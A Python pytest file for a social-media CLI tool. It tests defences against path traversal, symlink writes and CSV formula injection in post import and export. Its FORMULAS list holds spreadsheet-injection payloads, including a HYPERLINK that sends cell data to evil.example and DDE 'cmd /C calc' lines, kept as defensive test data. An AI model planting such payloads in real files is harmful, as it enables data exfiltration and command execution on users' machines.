"""Content files against hostile input (issue 15, "Files"): each reproducer fails now."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from clientnest_cli.services.content_csv import neutralise, restore
from tests.cli.posts_support import posts_json, refused, setup_store, snapshot, write_png
from tests.helpers import ok


@pytest.fixture
def accounts(home: Path) -> dict[str, int]:
    return setup_store()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """Someone else's repository of posts, next to a private folder of ours."""
    (tmp_path / "private").mkdir()
    write_png(tmp_path / "private" / "passport-scan.png", pad=7)
    folder = tmp_path / "repo"
    folder.mkdir()
    write_png(folder / "ok.png")
    return folder


def md(media: str) -> str:
    return f"---\nto: x:acme\nmedia: {media}\n---\nLook at this\n"


@pytest.mark.parametrize("where", ["../private/passport-scan.png", "ABSOLUTE", "link.png"])
def test_import_attaches_nothing_outside_the_files_folder(
    accounts: dict[str, int], repo: Path, where: str
) -> None:
    secret = repo.parent / "private" / "passport-scan.png"
    if where == "ABSOLUTE":
        where = str(secret)
    if where == "link.png":  # a link inside the folder that points outside it
        (repo / "link.png").symlink_to(secret)
    path = repo / "post.md"
    path.write_text(md(where))
    before = snapshot()
    stderr = refused("post", "import", str(path))
    assert snapshot() == before
    assert f"post.md: media {where} is outside the file's folder" in stderr
    assert "is outside the file's folder — move it next to the file, or allow" in stderr
    assert "--media-root DIR" in stderr and len(stderr.splitlines()) == 1
    # --media-root widens it, on purpose
    run = ok("post", "import", str(path), "--media-root", str(secret.parent), "--json").json()
    assert len(run["created"]) == 1


def test_media_next_to_the_file_is_fine_and_media_root_must_be_a_folder(
    accounts: dict[str, int], repo: Path
) -> None:
    (repo / "sub").mkdir()
    write_png(repo / "sub" / "deeper.png")
    path = repo / "post.md"
    path.write_text(md("[ok.png, sub/deeper.png]"))
    before = snapshot()
    stderr = refused("post", "import", str(path), "--media-root", str(repo / "nope"))
    assert snapshot() == before and "--media-root" in stderr and "is not a folder" in stderr
    assert len(stderr.splitlines()) == 1
    ok("post", "import", str(path))
    media = ok("post", "show", "1", "--json").json()["media"]
    assert [m["original_name"] for m in media] == ["ok.png", "deeper.png"]


def test_csv_media_is_confined_the_same_way(accounts: dict[str, int], repo: Path) -> None:
    path = repo / "bulk.csv"
    path.write_text(
        "text,to,media\nFine,x:acme,ok.png\nSneaky,x:acme,../private/passport-scan.png\n"
    )
    before = snapshot()
    stderr = refused("post", "import", str(path))
    assert snapshot() == before and "bulk.csv row 2: media" in stderr


def test_exported_media_travels_with_the_files(accounts: dict[str, int], repo: Path) -> None:
    """A Markdown export copies its media beside it: the folder moves as one piece."""
    ok("post", "create", "Pic", "--to", "x:acme", "--media", str(repo / "ok.png"), "--alt", "A")
    out = repo.parent / "out"
    ok("post", "export", "--format", "md", "--output", str(out))
    [path] = out.glob("*.md")
    [copy] = (out / "media").iterdir()
    assert f"media:\n- media/{copy.name}\n" in path.read_text()
    assert copy.read_bytes() == (repo / "ok.png").read_bytes()
    moved = repo.parent / "moved"
    out.rename(moved)
    run = ok("post", "import", str(moved / path.name), "--json").json()
    assert run["unchanged"] == ["00001-pic.md: post 1 left as it was"]


def test_a_csv_naming_the_stores_media_is_the_posts_own_only(
    accounts: dict[str, int], repo: Path
) -> None:
    """CSV on standard output names the store's copy: fine for that post, not for another."""
    ok("post", "create", "Pic", "--to", "x:acme", "--media", str(repo / "ok.png"))
    saved = repo.parent / "saved.csv"
    saved.write_text(ok("post", "export", "--format", "csv").stdout)
    [row] = list(csv.DictReader(io.StringIO(saved.read_text())))
    assert Path(row["media"]).is_absolute()
    run = ok("post", "import", str(saved), "--json").json()
    assert run["unchanged"] == ["saved.csv row 1: post 1 left as it was"]
    other = repo / "other.md"
    other.write_text(f"---\nto: x:acme\nmedia: {row['media']}\n---\nMine now\n")
    assert "is outside the file's folder" in refused("post", "import", str(other))


def test_export_refuses_a_linked_media_folder(accounts: dict[str, int], repo: Path) -> None:
    ok("post", "create", "Pic", "--to", "x:acme", "--media", str(repo / "ok.png"))
    out = repo.parent / "out"
    out.mkdir()
    elsewhere = repo.parent / "elsewhere"
    elsewhere.mkdir()
    (out / "media").symlink_to(elsewhere, target_is_directory=True)
    stderr = refused("post", "export", "--format", "md", "--output", str(out))
    assert "media is a symbolic link" in stderr
    assert list(elsewhere.iterdir()) == [] and list(out.glob("*.md")) == []


@pytest.fixture(params=[0o002, 0o077])
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    old = os.umask(request.param)
    try:
        yield request.param
    finally:
        os.umask(old)


def test_export_never_writes_through_a_link(accounts: dict[str, int], tmp_path: Path) -> None:
    ok("post", "create", "Hello", "--to", "x:acme")
    victim = tmp_path / "authorized_keys"
    victim.write_text("ssh-ed25519 AAAA mine\n")
    out = tmp_path / "posts"
    out.mkdir()
    (out / "00001-hello.md").symlink_to(victim)
    stderr = refused("post", "export", "--format", "md", "--output", str(out))
    assert "00001-hello.md is a symbolic link; export does not write through links" in stderr
    assert victim.read_text() == "ssh-ed25519 AAAA mine\n"
    (tmp_path / "posts.csv").symlink_to(victim)
    refused("post", "export", "--format", "csv", "--output", str(tmp_path / "posts.csv"))
    linked_dir = tmp_path / "linked"
    linked_dir.symlink_to(tmp_path / "private-dir", target_is_directory=True)
    refused("post", "export", "--format", "md", "--output", str(linked_dir))
    assert victim.read_text() == "ssh-ed25519 AAAA mine\n"
    assert not (tmp_path / "private-dir").exists()


def test_exported_files_follow_the_umask_but_are_never_shared_writable(
    accounts: dict[str, int], tmp_path: Path, umask: int, repo: Path
) -> None:
    ok("post", "create", "Hello", "--to", "x:acme", "--media", str(repo / "ok.png"))
    ok("post", "export", "--format", "md", "--output", str(tmp_path / "md"))
    target = tmp_path / "posts.csv"
    target.write_text("old")
    os.chmod(target, 0o666)
    ok("post", "export", "--format", "csv", "--output", str(target))
    ok("post", "export", "--format", "json", "--output", str(tmp_path / "posts.json"))
    written = [*(tmp_path / "md").rglob("*.*"), target, tmp_path / "posts.json"]
    assert len(written) == 4  # one Markdown file, its media copy, the CSV, the JSON
    for path in written:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o022 == 0, (path.name, oct(mode))
        if path != target:  # created here: the user's umask holds
            assert mode == 0o644 & ~umask, (path.name, oct(mode))
    assert target.read_text().startswith("id,group,")


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
]


def test_csv_export_neutralises_formulas_and_import_restores_them(
    accounts: dict[str, int], tmp_path: Path
) -> None:
    for text in FORMULAS:
        ok("post", "create", "--to", "x:acme", f"--category={text[:20]}", "--", text)
    target = tmp_path / "posts.csv"
    ok("post", "export", "--format", "csv", "--output", str(target))
    for row in csv.reader(io.StringIO(target.read_text())):
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell
    # re-import restores them exactly: every row is its post unchanged
    before = snapshot()
    run = ok("post", "import", str(target), "--json").json()
    assert (run["created"], run["updated"], len(run["unchanged"])) == ([], [], len(FORMULAS))
    assert snapshot() == before
    assert sorted(r["content"] for r in posts_json()) == sorted(FORMULAS)


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "''@x", "'plain", "plain", "", "'"]
)
def test_neutralise_round_trips_and_never_starts_a_formula(cell: str) -> None:
    out = neutralise(cell)
    assert restore(out) == cell
    assert not out or out[0] not in "=+-@\t\r"
